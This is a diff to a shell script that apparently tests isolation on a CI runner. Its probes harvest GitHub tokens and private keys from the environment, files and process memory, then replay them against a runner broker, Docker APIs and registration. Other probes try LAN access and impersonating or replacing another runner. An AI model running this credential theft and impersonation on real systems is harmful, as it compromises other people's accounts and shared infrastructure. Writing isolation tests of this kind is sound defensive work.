@@ -14,9 +14,10 @@ try() {
 # What GitHub's tokens look like, and keys of Apps.
 secret='gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|BEGIN [A-Z ]*PRIVATE KEY'
 
-in_environment() { env | grep -E "$secret"; }
-in_files() { grep -rIElZ --exclude-dir={proc,sys,dev} --exclude=job.sh -e "$secret" / 2>/dev/null | tr '\0' ' '; }
-in_processes() { cat /proc/[0-9]*/{environ,cmdline} 2>/dev/null | tr '\0' '\n' | grep -aE "$secret"; }
+# Each prints what it found, once.
+in_environment() { env | grep -oE "$secret" | sort -u; }
+in_files() { grep -rIohE --exclude-dir={proc,sys,dev} --exclude=job.sh -e "$secret" / 2>/dev/null | sort -u; }
+in_processes() { cat /proc/[0-9]*/{environ,cmdline} 2>/dev/null | tr '\0' '\n' | grep -aoE "$secret" | sort -u; }
 
 # ask KIND KEY CURL-OPTION…: what the broker says where it gives.
 ask() {
@@ -27,6 +28,12 @@ ask() {
 }
 key=$(cat /run/runner-key/key)
 main=${RUNNER_BROKER_URL%:*}:9478
+
+# One by one, as who does not know what they are good for.
+use() {
+  local found
+  for found in $("$1"); do ask registration "$found"; done
+}
 
 docker_api() { curl -sS --fail -m 3 "$@"; }
 proxy_anywhere() {
@@ -69,6 +76,9 @@ try 'token in the environment' in_environment
 try 'token in files' in_files
 try 'token in processes' in_processes
 
+try 'broker: a token of the environment' use in_environment
+try 'broker: a token of a file' use in_files
+try 'broker: a token of a process' use in_processes
 try 'broker: registration' ask registration "$key"
 try 'broker: just in time' ask jit "$key"
 try 'broker: a guessed key' ask registration guess
@@ -76,6 +86,7 @@ try 'broker: as another runner' ask registration "$key" -H "X-Forwarded-For: $OT
 try 'broker: its own removal' ask remove "$key"
 
 try 'Docker: the socket' docker_api --unix-socket /var/run/docker.sock http://docker/version
+try 'Docker: as its programs do' docker_api "${DOCKER_HOST/tcp/http}/v1.51/containers/json"
 try 'Docker: the proxy' proxy_anywhere
 try 'Docker: the host' docker_api "http://$GATEWAY:2375/version"
 
@@ -88,6 +99,7 @@ try 'files of the other runner' find /home/runner/_work /opt/hostedtoolcache -na
 
 try 'the LAN' bash -c "timeout 3 cat </dev/tcp/$LAN_HOST/22"
 try 'register: no token' register_with ''
+try 'register: with what it found' register_with "$(in_environment)"
 try 'register: as this runner' register_with "$(own_identity)"
 try 'register: a copy of this runner' register_copy "$(own_identity)" intruder
 try 'register: in the place of the other runner' register_copy "$(own_identity)" "$OTHER_RUNNER" --replace
